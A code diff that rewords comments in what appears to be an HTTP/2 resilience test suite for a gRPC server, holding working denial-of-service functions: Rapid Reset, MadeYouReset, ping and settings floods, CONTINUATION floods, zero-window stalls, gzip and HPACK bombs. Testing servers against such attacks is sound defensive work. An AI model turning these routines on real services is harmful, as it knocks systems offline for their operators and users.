@@ -14,7 +14,7 @@ _GET = "/leadline.v1.InferenceService/GetModel"
 _LIST = "/leadline.v1.InferenceService/ListModels"
 _PREDICT = "/leadline.v1.InferenceService/Predict"
 
-# A network, too, has a limit: 64 connections that each send a batch, and pause, take 3 Gbit/s.
+# A network has a limit too: 64 connections that each send a batch and pause need 3 Gbit/s.
 _BATCH = 100
 _BATCH_BYTES = 1 << 16
 _PAUSE_SECONDS = 0.01
@@ -30,18 +30,18 @@ _EACH = 4
 
 
 class _Peer(BareConnection):
-    """A connection of an attacker."""
+    """An attacker's connection."""
 
     def __init__(self, scene: Scene, *, reads: bool = True, greeting: bytes | None = None) -> None:
         super().__init__(scene.site.port, reads=reads, greeting=greeting)
 
     async def write(self, data: bytes) -> None:
-        """Sends frames, as fast as the server reads."""
+        """Sends frames as fast as the server reads them."""
         self.send(data)
         await self.flush()
 
     async def flood(self, make: Callable[[int], bytes]) -> None:
-        """Writes what `make` makes of the streams 1, 3, 5 and so on, in batches, without end."""
+        """Sends the frames of `make` for the streams 1, 3, 5 and so on, in endless batches."""
         batch = b""
         for stream in range(1, _MOST_STREAM, 2):
             batch += make(stream)
@@ -51,7 +51,7 @@ class _Peer(BareConnection):
                 await asyncio.sleep(_PAUSE_SECONDS)
 
     async def hold(self) -> None:
-        """Says nothing more, until the server hangs up or some time has passed."""
+        """Sends nothing until the server closes the connection or some time has passed."""
         await self.wait_closed(_HOLD_SECONDS)
 
 
@@ -66,7 +66,7 @@ async def _declared_lengths(scene: Scene) -> None:
 
 
 async def _bombs(scene: Scene) -> None:
-    """Sends zeros that gzip makes a thousandth of."""
+    """Sends zeros that gzip compresses to a thousandth."""
     fields, bomb = [(b"grpc-encoding", b"gzip")], _bomb()
     async with _Peer(scene) as peer:
         for stream in range(1, 21, 2):
@@ -82,7 +82,7 @@ def _bomb() -> bytes:
 
 
 async def _rapid_reset(scene: Scene) -> None:
-    """CVE-2023-44487: begins calls and cancels each at once."""
+    """CVE-2023-44487: starts calls and cancels each at once."""
     request = GetModelRequest(name=scene.site.model).SerializeToString()
     async with _Peer(scene) as peer:
         await peer.flood(
@@ -95,7 +95,8 @@ async def _rapid_reset(scene: Scene) -> None:
 
 
 async def _made_you_reset(scene: Scene) -> None:
-    """CVE-2025-8671: errs on each stream, so that the server resets it and goes on working."""
+    """CVE-2025-8671: causes an error on each stream, so that the server resets it but continues its
+    work."""
     request = GetModelRequest(name=scene.site.model).SerializeToString()
     async with _Peer(scene) as peer:
         await peer.flood(
@@ -108,7 +109,7 @@ async def _made_you_reset(scene: Scene) -> None:
 
 
 async def _slow_readers(scene: Scene) -> None:
-    """CVE-2019-9517: asks for much, and reads nothing of it."""
+    """CVE-2019-9517: requests much data, and reads none of it."""
     request = ListModelsRequest(page_size=1_000).SerializeToString()
     async with _Peer(scene, reads=False) as peer:
         for stream in range(1, 2 * _BATCH, 2):
@@ -117,7 +118,7 @@ async def _slow_readers(scene: Scene) -> None:
 
 
 async def _no_window(scene: Scene) -> None:
-    """CVE-2019-9511: asks for much, into windows of no bytes."""
+    """CVE-2019-9511: requests much data with flow-control windows of zero bytes."""
     request = ListModelsRequest(page_size=1_000).SerializeToString()
     greeting = frames.PREFACE + frames.settings({_INITIAL_WINDOW_SIZE: 0})
     async with _Peer(scene, greeting=greeting) as peer:
@@ -134,7 +135,7 @@ async def _header_floods(scene: Scene) -> None:
 
 
 async def _continuations(scene: Scene) -> None:
-    """CVE-2024-27316 and others: headers that never end."""
+    """CVE-2024-27316 and others: endless headers."""
     block = frames.field_block([(b"x", b"v" * 120)] * 100)
     async with _Peer(scene) as peer:
         await peer.write(frames.headers(1, _GET, ends=False))
@@ -142,13 +143,13 @@ async def _continuations(scene: Scene) -> None:
 
 
 async def _settings(scene: Scene) -> None:
-    """CVE-2019-9515: settings, each of which must be acknowledged."""
+    """CVE-2019-9515: settings that the server must acknowledge."""
     async with _Peer(scene, reads=False) as peer:
         await peer.flood(lambda _: frames.settings({_INITIAL_WINDOW_SIZE: 1}))
 
 
 async def _pings(scene: Scene) -> None:
-    """CVE-2019-9512: pings, each of which must be answered."""
+    """CVE-2019-9512: pings that the server must answer."""
     async with _Peer(scene, reads=False) as peer:
         await peer.flood(lambda _: frames.ping())
 
@@ -166,14 +167,14 @@ async def _window_updates(scene: Scene) -> None:
 
 
 async def _empty_data(scene: Scene) -> None:
-    """CVE-2019-9518: frames of data without data."""
+    """CVE-2019-9518: data frames without data."""
     async with _Peer(scene) as peer:
         await peer.write(frames.headers(1, _GET))
         await peer.flood(lambda _: frames.data(1, b""))
 
 
 async def _half_prefaces(scene: Scene) -> None:
-    """Connects, and stops within the preface."""
+    """Connects, and stalls within the preface."""
     async with _Peer(scene, greeting=frames.PREFACE[:10]) as peer:
         await peer.hold()
 
@@ -208,8 +209,8 @@ _KINDS: tuple[_Kind, ...] = (
 )
 
 
-# 64 MiB is the aim, which neither transport reaches. Over grpcio others' calls fail as well:
-# docs/security.md has its figures, and `make test` attacks h2corn alone.
+# Neither transport meets 64 MiB. Over grpcio, calls of others also fail: docs/security.md has the
+# figures, and `make test` attacks only h2corn.
 @attack(
     source="CVE-2023-44487, CVE-2025-8671 and others, named by each function of peers.py",
     bar=Bar(memory_mib=128),
@@ -217,8 +218,8 @@ _KINDS: tuple[_Kind, ...] = (
 async def hostile_peers(scene: Scene) -> None:
     """Misuses HTTP/2 in 15 ways from 60 connections at once.
 
-    Resets, floods of each kind of frame, bombs, readers and writers that stall: each makes the
-    server work or keep something for little of the attacker's.
+    Resets, floods of each kind of frame, bombs, and stalled readers and writers: each costs the
+    server more work or memory than the attacker.
     """
 
     _bomb()  # made once, before
@@ -228,10 +229,10 @@ async def hostile_peers(scene: Scene) -> None:
             group.create_task(scene.repeat(_EACH, functools.partial(_misuse, scene, kind)))
 
 
-# Over grpcio it is not bounded: docs/transports.md says what an operator can do.
+# Over grpcio it is not bounded: docs/transports.md describes what an operator can do.
 @attack(source="CVE-2016-6581", bar=Bar(memory_mib=64))
 async def hpack_bombs(scene: Scene) -> None:
-    """Sends a long field of metadata once, and refers to it 16,000 times, a byte for each."""
+    """Sends a long metadata field once, and refers to it 16,000 times with one byte each."""
     block = b"\x40\x01x\x7e" + b"v" * 126 + b"\xbe" * 16_000
 
     async def bomb(scene: Scene) -> None:
@@ -251,5 +252,5 @@ async def _misuse(scene: Scene, kind: _Kind) -> None:
     scene.tally[kind.__name__.strip("_").replace("_", "-")] += 1
     try:
         await kind(scene)
-    except OSError:  # the server hung up, as it should
+    except OSError:  # the server closed the connection, as it must
         await asyncio.sleep(_RETRY_SECONDS)
